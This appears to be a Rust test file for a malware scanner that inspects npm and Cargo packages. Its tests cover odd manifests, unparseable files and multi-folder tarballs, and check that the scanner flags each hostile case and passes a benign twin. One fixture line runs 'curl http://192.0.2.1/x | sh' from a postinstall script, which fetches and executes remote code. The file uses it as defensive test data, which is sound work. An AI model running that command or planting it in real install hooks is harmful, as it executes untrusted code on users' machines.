//! Ways in that a client opens and a careless reader passes by.

use bifocal_behaviour::{ArtifactInput, analyse, analyse_tree};
use bifocal_core::{AnalysisLimits, ArtifactFacts, Ecosystem, Status};
use bifocal_testkit::hostile::compress::gzip;
use bifocal_testkit::hostile::tar::TarBuilder;

const SHELL: &str = "behaviour/install-time-shell";
const RUNS: &str = "require('child_process').exec('curl http://192.0.2.1/x | sh');\n";

fn npm(files: &[(&str, &str)]) -> ArtifactFacts {
    let files: Vec<(String, Vec<u8>)> = files.iter().map(|(path, text)| (format!("package/{path}"), text.as_bytes().to_vec())).collect();
    analyse_tree(Some(Ecosystem::Npm), &files, &AnalysisLimits::default())
}

fn surely(facts: &ArtifactFacts, id: &str) -> bool {
    facts.signals.iter().any(|signal| signal.id == id && signal.is_malware_class() && signal.confidence >= 0.9)
}

fn failed(facts: &ArtifactFacts, id: &str) -> bool {
    facts.signals.iter().any(|signal| signal.id == id && signal.status == Status::Failed)
}

fn holds(facts: &ArtifactFacts) -> bool {
    facts.signals.iter().any(|signal| signal.status == Status::Failed || (signal.is_malware_class() && signal.confidence >= 0.9))
}

#[test]
fn a_manifest_that_only_a_lenient_reader_takes_is_read() {
    let deep = |n: usize| format!("{}{}", "[".repeat(n), "]".repeat(n));
    for odd in ["1e999".to_owned(), "\"\\ud83d\"".to_owned(), deep(130), deep(100_000)] {
        let manifest =
            |hook: &str| format!("{{\"name\":\"x\",\"version\":\"1.0.0\",\"odd\":{odd},\"scripts\":{{\"{hook}\":\"node a.js\"}}}}");
        let facts = npm(&[("package.json", &manifest("postinstall")), ("a.js", RUNS)]);
        assert!(surely(&facts, SHELL), "{odd:.20}: {:#?}", facts.signals);
        assert_eq!(facts.manifest.name.as_deref(), Some("x"));
        let twin = npm(&[("package.json", &manifest("test")), ("a.js", "exports.a = 1;\n")]);
        assert!(!holds(&twin), "{odd:.20}: {:#?}", twin.signals);
    }
}

#[test]
fn a_manifest_that_nobody_here_can_read_holds() {
    let facts =
        npm(&[("package.json", "{\"name\":\"x\", // said\n\"scripts\":{\"postinstall\":\"node a.js\"},}"), ("a.js", "exports.a = 1;\n")]);
    assert!(failed(&facts, "behaviour/unparsed-source"), "{:#?}", facts.signals);
    // Data of tests that is broken on purpose is nobody's manifest.
    let twin = npm(&[
        ("package.json", "{\"name\":\"x\",\"version\":\"1.0.0\"}"),
        ("lib/broken/package.json", "{"),
        ("index.js", "exports.a = 1;\n"),
    ]);
    assert!(!holds(&twin), "{:#?}", twin.signals);
    let files = [("x-1.0.0/Cargo.toml".to_owned(), b"[package\nname = \"x\"\n".to_vec())];
    let facts = analyse_tree(Some(Ecosystem::Cargo), &files, &AnalysisLimits::default());
    assert!(failed(&facts, "behaviour/unparsed-source"), "{:#?}", facts.signals);
}

#[test]
fn a_file_that_runs_by_itself_and_is_too_large_to_parse_holds() {
    let limits = AnalysisLimits { parsed_file: 4_000, ..AnalysisLimits::default() };
    let large = format!("exports.table = [{}];\n", "1,".repeat(4_000));
    let look = |manifest: &str| {
        let files =
            [("package/package.json".to_owned(), manifest.as_bytes().to_vec()), ("package/a.js".to_owned(), large.clone().into_bytes())];
        analyse_tree(Some(Ecosystem::Npm), &files, &limits)
    };
    let facts = look("{\"name\":\"x\",\"version\":\"1.0.0\",\"main\":\"a.js\"}");
    assert!(failed(&facts, "behaviour/unparsed-source"), "{:#?}", facts.signals);
    let twin = look("{\"name\":\"x\",\"version\":\"1.0.0\",\"main\":\"b.js\"}");
    assert!(!holds(&twin), "{:#?}", twin.signals);
}

/// What the analyser says of a tarball of these files, in this order.
fn tarball(ecosystem: Option<Ecosystem>, files: &[(&str, &str)]) -> ArtifactFacts {
    let bytes = gzip(&files.iter().fold(TarBuilder::new(), |tar, (path, text)| tar.file(path, text.as_bytes())).finish());
    analyse(&ArtifactInput { ecosystem, filename: "x-1.0.0.tgz", bytes: &bytes }, &AnalysisLimits::default())
}

const PLAIN: &str = "{\"name\":\"x\",\"version\":\"1.0.0\"}";
const HOOKED: &str = "{\"name\":\"x\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node a.js\"}}";

#[test]
fn a_tarball_of_two_folders_is_judged_as_npm_installs_it() {
    for ecosystem in [None, Some(Ecosystem::Npm)] {
        let facts = tarball(ecosystem, &[("other/package.json", HOOKED), ("package/a.js", RUNS)]);
        assert!(surely(&facts, SHELL), "{:#?}", facts.signals);
        for second in ["other/package.json", "./package.json"] {
            let facts = tarball(ecosystem, &[("package/package.json", PLAIN), (second, HOOKED), ("package/a.js", RUNS)]);
            assert!(failed(&facts, "behaviour/archive-refused"), "{second}: {:#?}", facts.signals);
        }
        let twin = tarball(ecosystem, &[("package/package.json", PLAIN), ("other/a.js", "exports.a = 1;\n"), ("package/b.js", "")]);
        assert!(!holds(&twin), "{:#?}", twin.signals);
        assert_eq!(twin.manifest.name.as_deref(), Some("x"));
    }
}
